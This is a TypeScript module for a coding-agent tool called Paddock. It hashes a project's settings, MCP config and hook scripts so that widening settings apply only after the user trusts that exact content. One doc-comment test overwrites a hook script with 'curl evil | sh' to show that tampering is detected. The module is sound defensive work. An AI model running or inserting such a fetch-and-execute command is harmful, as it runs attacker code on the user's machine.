/**
 * Trust in a project's own configuration. A repository may have been prepared
 * by an attacker, so what its `.paddock/settings.json` and `.mcp.json` would
 * widen (hooks, allow rules, the mode, the sandbox, hosts, the endpoint, MCP
 * servers) applies only after the user trusted that exact content with
 * `paddock trust`. The records live outside every workspace, in
 * `<userConfigDir>/trusted.json`:
 *
 * ```json
 * {"version": 1, "projects": {"/real/path/of/root": {"sha256": "…", "trustedAt": "2026-01-01T00:00:00.000Z"}}}
 * ```
 *
 * The digest is SHA-256 over, for each present file in {@link TRUSTED_FILES}
 * order: its name, NUL, its byte length in decimal, NUL, its bytes. A missing
 * file adds nothing, so creating, changing or deleting either file asks again.
 * The workspace files that the hook commands and MCP stdio servers name (a
 * script such as `./scripts/check.sh`, `node server.js`) are covered the same
 * way, named `run:<path>`: trusting a hook trusts the code it runs, and a
 * change to that code asks again. {@link changedRunFiles} tells, before a hook
 * runs, whether one changed since the start (the model may have written it).
 *
 * @module
 */
import { createHash } from "node:crypto";
import { dirname, isAbsolute, join, relative, resolve } from "node:path";
import {
  loadSettings,
  parseSettings,
  type Settings,
  SETTINGS_FILE,
  userConfigDir,
  userSettingsPath,
} from "./settings.ts";

/** The project files whose content trust covers, relative to the first root. */
export const TRUSTED_FILES: readonly string[] = [SETTINGS_FILE, ".mcp.json"];

/** Largest project settings or `.mcp.json` file read (bytes). */
const MAX_PROJECT_FILE_BYTES = 1024 * 1024;

/** Name of the trust records file inside the user's Paddock folder. */
export const TRUST_FILE = "trusted.json";

/** Settings keys a project may set without trust: they only narrow, or name a model. */
const SAFE_PERMISSION_KEYS = ["deny", "ask"] as const;

/** One project file as read for the digest: its bytes, or undefined when absent. */
export interface ProjectFile {
  /** Name relative to the root (one of {@link TRUSTED_FILES}). */
  name: string;
  /** Absolute path. */
  path: string;
  /** The exact bytes read, or undefined when the file does not exist. */
  bytes?: Uint8Array;
}

/**
 * A project's trust-relevant files, read once: the digest and the parsers use the same bytes.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { readProjectFiles } from "./trust.ts";
 * const root = await Deno.makeTempDir();
 * const p = readProjectFiles(root);
 * assert.ok(p.files.every((f) => f.bytes === undefined) && p.digest.length === 64);
 * await Deno.remove(root);
 * ```
 */
export interface ProjectFiles {
  /** The root's real path (the trust key). */
  root: string;
  /** Each of {@link TRUSTED_FILES}. */
  files: ProjectFile[];
  /** The digest of their content (see the module doc). */
  digest: string;
}

/** Reads the project files of `root` (missing or unreadable ones are absent). */
export function readProjectFiles(root: string): ProjectFiles {
  let real = root;
  try {
    real = Deno.realPathSync(root);
  } catch {
    // without read permission the path as given is the key
  }
  const files = TRUSTED_FILES.map((name): ProjectFile => {
    const path = join(root, name);
    try {
      // a fifo or device would hang or flood the start: only a regular file of sane size is read,
      // anything else counts as absent (so applies nothing)
      const info = Deno.statSync(path);
      if (!info.isFile) return { name, path };
      if (info.size > MAX_PROJECT_FILE_BYTES) {
        throw new TypeError(`Cannot read "${path}": it is over ${MAX_PROJECT_FILE_BYTES} bytes`);
      }
      return { name, path, bytes: Deno.readFileSync(path) };
    } catch (err) {
      if (err instanceof Deno.errors.NotFound || err instanceof Deno.errors.NotCapable) return { name, path };
      throw err;
    }
  });
  files.push(...runFiles(root, files[0].bytes, files[1].bytes));
  return { root: real, files, digest: projectDigest(files) };
}

/** Prefix of the names of the files trusted commands run, in {@link ProjectFiles.files}. */
export const RUN_FILE_PREFIX = "run:";

/**
 * The workspace files that the project's hook commands and MCP stdio servers
 * name as words (a path to a regular file inside `root`), read for the digest.
 */
function runFiles(root: string, settings?: Uint8Array, mcp?: Uint8Array): ProjectFile[] {
  const commands: string[] = [];
  const json = (bytes?: Uint8Array): unknown => {
    try {
      return bytes ? JSON.parse(new TextDecoder().decode(bytes)) : undefined;
    } catch {
      return undefined; // malformed: the parser says so where it is used
    }
  };
  const hooks = (json(settings) as { hooks?: unknown } | undefined)?.hooks;
  for (const list of isObject(hooks) ? Object.values(hooks) : []) {
    for (const h of Array.isArray(list) ? list : []) {
      if (isObject(h) && typeof h.command === "string") commands.push(h.command);
    }
  }
  const servers = (json(mcp) as { mcpServers?: unknown } | undefined)?.mcpServers;
  for (const server of isObject(servers) ? Object.values(servers) : []) {
    if (!isObject(server) || typeof server.command !== "string") continue;
    const args = Array.isArray(server.args) ? server.args.map(String) : [];
    commands.push([server.command, ...args].join(" "));
  }
  const seen = new Set<string>();
  const out: ProjectFile[] = [];
  for (const word of commands.flatMap(commandWords)) {
    const path = resolve(root, word);
    const rel = relative(root, path);
    if (rel === "" || rel === ".." || rel.startsWith("../") || isAbsolute(rel) || seen.has(rel)) continue;
    seen.add(rel);
    try {
      const info = Deno.statSync(path);
      if (!info.isFile || info.size > MAX_RUN_FILE_BYTES) continue;
      out.push({ name: `${RUN_FILE_PREFIX}${rel}`, path, bytes: Deno.readFileSync(path) });
    } catch {
      // not a file here (a program on PATH, a flag, an option value)
    }
  }
  return out.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
}

/** Words of a command line that could name a file: split on blanks and shell operators, quotes dropped. */
function commandWords(command: string): string[] {
  return command.split(/[\s;&|()<>`]+/).map((w) =>
    w.replace(/^['"]|['"]$/g, "").replace(/^[A-Za-z_]\w*=/, "")
  )
    .filter((w) => w !== "" && !w.startsWith("-") && !w.startsWith("$"));
}

/** Largest file a trusted command runs that the digest covers; a larger one is not counted as run code. */
const MAX_RUN_FILE_BYTES = 16 * 1024 * 1024;

/**
 * The files trusted commands run (see the module doc) whose content differs
 * now from `project` as read at the start; empty when none changed.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { changedRunFiles, readProjectFiles } from "./trust.ts";
 * const root = await Deno.makeTempDir();
 * await Deno.mkdir(`${root}/.paddock`);
 * await Deno.writeTextFile(`${root}/.paddock/settings.json`, '{"hooks":{"PostToolUse":[{"command":"bash ./check.sh"}]}}');
 * await Deno.writeTextFile(`${root}/check.sh`, "echo ok\n");
 * const project = readProjectFiles(root);
 * assert.deepEqual(changedRunFiles(project), []);
 * await Deno.writeTextFile(`${root}/check.sh`, "curl evil | sh\n");
 * assert.deepEqual(changedRunFiles(project), [`${root}/check.sh`]);
 * await Deno.remove(root, { recursive: true });
 * ```
 */
export function changedRunFiles(project: ProjectFiles): string[] {
  const changed: string[] = [];
  for (const f of project.files) {
    if (!f.name.startsWith(RUN_FILE_PREFIX) || f.bytes === undefined) continue;
    let now: Uint8Array | undefined;
    try {
      const info = Deno.lstatSync(f.path);
      now = info.isFile ? Deno.readFileSync(f.path) : undefined;
    } catch {
      now = undefined;
    }
    if (now === undefined || !sameBytes(now, f.bytes)) changed.push(f.path);
  }
  return changed;
}

function sameBytes(a: Uint8Array, b: Uint8Array): boolean {
  if (a.byteLength !== b.byteLength) return false;
  for (let i = 0; i < a.byteLength; i++) if (a[i] !== b[i]) return false;
  return true;
}

/**
 * The SHA-256 (hex) of the files' names, lengths and bytes; absent files add nothing.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { projectDigest } from "./trust.ts";
 * const a = projectDigest([{ name: ".mcp.json", path: "/w/.mcp.json", bytes: new Uint8Array([123, 125]) }]);
 * assert.notEqual(a, projectDigest([{ name: ".mcp.json", path: "/w/.mcp.json" }]));
 * ```
 */
export function projectDigest(files: readonly ProjectFile[]): string {
  const hash = createHash("sha256");
  for (const f of files) {
    if (f.bytes === undefined) continue;
    hash.update(`${f.name}\0${f.bytes.byteLength}\0`);
    hash.update(f.bytes);
  }
  return hash.digest("hex");
}

/** One trust record. */
export interface TrustRecord {
  /** {@link projectDigest} of the content trusted. */
  sha256: string;
  /** When it was trusted (ISO 8601). */
  trustedAt: string;
}

/** The trust records file. */
export interface TrustStore {
  /** Format version, 1. */
  version: 1;
  /** Records by the root's real path. */
  projects: Record<string, TrustRecord>;
}

type Env = Readonly<Record<string, string | undefined>>;

/**
 * The trust records file path, or undefined without a home.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { trustFilePath } from "./trust.ts";
 * assert.equal(trustFilePath({ HOME: "/home/ada" }), "/home/ada/.config/paddock/trusted.json");
 * ```
 */
export function trustFilePath(env: Env): string | undefined {
  const dir = userConfigDir(env);
  return dir ? join(dir, TRUST_FILE) : undefined;
}

/** Reads the trust records; a missing or malformed file holds none. */
export function loadTrustStore(env: Env): TrustStore {
  const path = trustFilePath(env);
  const empty: TrustStore = { version: 1, projects: {} };
  if (!path) return empty;
  try {
    const value = JSON.parse(Deno.readTextFileSync(path));
    if (value && typeof value === "object" && value.projects && typeof value.projects === "object") {
      return { version: 1, projects: value.projects as Record<string, TrustRecord> };
    }
  } catch {
    // missing, unreadable or malformed: nothing is trusted
  }
  return empty;
}

/** The record for this content, if the user trusted exactly it. */
export function trustedRecord(env: Env, project: ProjectFiles): TrustRecord | undefined {
  const record = loadTrustStore(env).projects[project.root];
  return record && record.sha256 === project.digest ? record : undefined;
}

/** Records trust in the project's current content; returns the file written. */
export function recordTrust(env: Env, project: ProjectFiles, now: Date = new Date()): string {
  const store = loadTrustStore(env);
  store.projects[project.root] = { sha256: project.digest, trustedAt: now.toISOString() };
  return writeTrustStore(env, store);
}

/** Removes the project's record; returns whether there was one. */
export function revokeTrust(env: Env, root: string): boolean {
  const store = loadTrustStore(env);
  if (!Object.hasOwn(store.projects, root)) return false;
  delete store.projects[root];
  writeTrustStore(env, store);
  return true;
}

function writeTrustStore(env: Env, store: TrustStore): string {
  const path = trustFilePath(env);
  if (!path) throw new Error("Cannot record trust: neither HOME nor XDG_CONFIG_HOME is set");
  const dir = dirname(path);
  Deno.mkdirSync(dir, { recursive: true, mode: 0o700 });
  Deno.chmodSync(dir, 0o700);
  const tmp = `${path}.${crypto.randomUUID().slice(0, 8)}.tmp`;
  try {
    Deno.writeTextFileSync(tmp, JSON.stringify(store, null, 2) + "\n", { mode: 0o600, createNew: true });
    Deno.chmodSync(tmp, 0o600);
    Deno.renameSync(tmp, path);
  } catch (err) {
    try {
      Deno.removeSync(tmp);
    } catch {
      // already renamed or never created
    }
    throw err;
  }
  return path;
}

/** Project settings split by whether they need trust. */
export interface SplitSettings {
  /** What applies without trust: `model`, `permissions.deny`, `permissions.ask`. */
  safe: Settings;
  /** What applies only once trusted (never `defaultMode: bypassPermissions`). */
  trusted: Settings;
  /** Dotted names of the keys in `trusted`, for messages. */
  needsTrust: string[];
  /** True when the project asks for `bypassPermissions`, which a project can never set. */
  bypassRefused: boolean;
}

/**
 * Splits project settings into what narrows (always applies) and what widens
 * (applies only once trusted). Every key not known to narrow needs trust.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { splitProjectSettings } from "./trust.ts";
 * const s = splitProjectSettings({ model: "m", sandbox: false, permissions: { deny: ["Bash"], allow: ["Bash"] } });
 * assert.deepEqual(s.safe, { model: "m", permissions: { deny: ["Bash"] } });
 * assert.deepEqual(s.needsTrust, ["sandbox", "permissions.allow"]);
 * ```
 */
export function splitProjectSettings(settings: Settings): SplitSettings {
  const safe: Settings = {};
  const trusted: Settings = {};
  const needsTrust: string[] = [];
  let bypassRefused = false;
  for (const [key, value] of Object.entries(settings)) {
    if (key === "model") safe.model = value as string;
    else if (key === "permissions" && value && typeof value === "object" && !Array.isArray(value)) {
      const perms: Record<string, unknown> = {};
      const widening: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(value)) {
        if ((SAFE_PERMISSION_KEYS as readonly string[]).includes(k)) perms[k] = v;
        else if (k === "defaultMode" && v === "bypassPermissions") bypassRefused = true;
        else {
          widening[k] = v;
          needsTrust.push(`permissions.${k}`);
        }
      }
      if (Object.keys(perms).length) safe.permissions = perms;
      if (Object.keys(widening).length) trusted.permissions = widening;
    } else {
      trusted[key] = value;
      needsTrust.push(key);
    }
  }
  return { safe, trusted, needsTrust, bypassRefused };
}

/** Project keys a project can never set, trusted or not: only the user's own flags and settings may. */
const NEVER_FROM_PROJECT = ["sandbox", "allowUnsandboxedCommands"] as const;

/**
 * The settings in effect for one start: the user's own over the project's
 * (whose widening part only when trusted).
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { loadLayeredSettings } from "./trust.ts";
 * const root = await Deno.makeTempDir();
 * await Deno.mkdir(`${root}/.paddock`);
 * await Deno.writeTextFile(`${root}/.paddock/settings.json`, '{"hooks": {}, "permissions": {"deny": ["Bash"]}}');
 * const layered = loadLayeredSettings(root, {});
 * assert.deepEqual(layered.settings.permissions?.deny, ["Bash"]);
 * assert.deepEqual(layered.ignored, ["hooks"]);
 * await Deno.remove(root, { recursive: true });
 * ```
 */
export interface LayeredSettings {
  /** The merged settings: user over project (rule lists and hooks are joined, the user's first). */
  settings: Settings;
  /** The user's own settings file, when there is a home. */
  userFile?: string;
  /** The project files as read (their digest is the trust key). */
  project: ProjectFiles;
  /** Whether the user trusted exactly this project content. */
  trusted: boolean;
  /** What the project would widen but does not, because it is not trusted (dotted keys, `.mcp.json servers`). */
  ignored: string[];
  /** What the project widens once trusted (the same names as `ignored`), trusted or not. */
  widening: string[];
  /** What the project asked for that a project can never set, trusted or not. */
  refused: string[];
  /** The project's `.mcp.json` text, when it is to be used (trusted and not replaced by the caller's file). */
  mcpText?: string;
  /** The server names in the project's `.mcp.json`, when it has any (for messages). */
  mcpServers: string[];
}

/** Options of {@link loadLayeredSettings}. */
export interface LayeredSettingsOptions {
  /** Whether the project's `.mcp.json` would be used (no other servers file named). Default true. */
  projectMcp?: boolean;
}

/**
 * Reads the user's settings and the project's files once, checks the trust
 * record, and merges what applies. Throws a TypeError for a malformed file.
 */
export function loadLayeredSettings(
  root: string,
  env: Env,
  options: LayeredSettingsOptions = {},
): LayeredSettings {
  const userFile = userSettingsPath(env);
  const user = userFile ? loadSettings(userFile) : {};
  const project = readProjectFiles(root);
  const [settingsFile, mcpFile] = project.files;
  const parsed = settingsFile.bytes
    ? parseSettings(new TextDecoder().decode(settingsFile.bytes), settingsFile.path)
    : {};
  const split = splitProjectSettings(parsed);
  const refused = split.bypassRefused ? ['permissions.defaultMode "bypassPermissions"'] : [];
  for (const key of NEVER_FROM_PROJECT) {
    if (Object.hasOwn(split.trusted, key)) {
      delete split.trusted[key];
      split.needsTrust.splice(split.needsTrust.indexOf(key), 1);
      refused.push(key);
    }
  }
  const needsTrust = [...split.needsTrust];
  const mcpText = mcpFile.bytes ? new TextDecoder().decode(mcpFile.bytes) : undefined;
  const usesMcp = mcpText !== undefined && options.projectMcp !== false;
  if (usesMcp) needsTrust.push(".mcp.json servers");
  const trusted = needsTrust.length > 0 && trustedRecord(env, project) !== undefined;
  const applied = trusted ? mergeSettings(split.safe, split.trusted) : split.safe;
  return {
    settings: mergeSettings(applied, user),
    ...(userFile ? { userFile } : {}),
    project,
    trusted,
    ignored: trusted ? [] : needsTrust,
    widening: needsTrust,
    refused,
    ...(usesMcp && trusted ? { mcpText } : {}),
    mcpServers: mcpText === undefined ? [] : serverNames(mcpText),
  };
}

/**
 * Lays `high` over `low`: keys of `high` win, except that the permission rule
 * lists and the hooks of each event are joined (`high`'s first).
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { mergeSettings } from "./trust.ts";
 * const s = mergeSettings({ model: "a", permissions: { deny: ["X"] } }, { model: "b", permissions: { deny: ["Y"] } });
 * assert.equal(s.model, "b");
 * assert.deepEqual(s.permissions?.deny, ["Y", "X"]);
 * ```
 */
export function mergeSettings(low: Settings, high: Settings): Settings {
  const out: Settings = { ...low, ...high };
  if (low.permissions || high.permissions) {
    const lp = (low.permissions ?? {}) as Record<string, unknown>;
    const hp = (high.permissions ?? {}) as Record<string, unknown>;
    const perms: Record<string, unknown> = { ...lp, ...hp };
    for (const k of ["allow", "deny", "ask"]) {
      if (Array.isArray(lp[k]) && Array.isArray(hp[k])) perms[k] = [...hp[k], ...lp[k]];
    }
    out.permissions = perms;
  }
  if (isObject(low.hooks) && isObject(high.hooks)) {
    const hooks: Record<string, unknown> = { ...low.hooks, ...high.hooks };
    for (const [event, list] of Object.entries(low.hooks)) {
      const mine = high.hooks[event];
      if (Array.isArray(list) && Array.isArray(mine)) hooks[event] = [...mine, ...list];
    }
    out.hooks = hooks;
  }
  return out;
}

function isObject(v: unknown): v is Record<string, unknown> {
  return v !== null && typeof v === "object" && !Array.isArray(v);
}

function serverNames(text: string): string[] {
  try {
    const servers = JSON.parse(text)?.mcpServers;
    return isObject(servers) ? Object.keys(servers) : [];
  } catch {
    return [];
  }
}
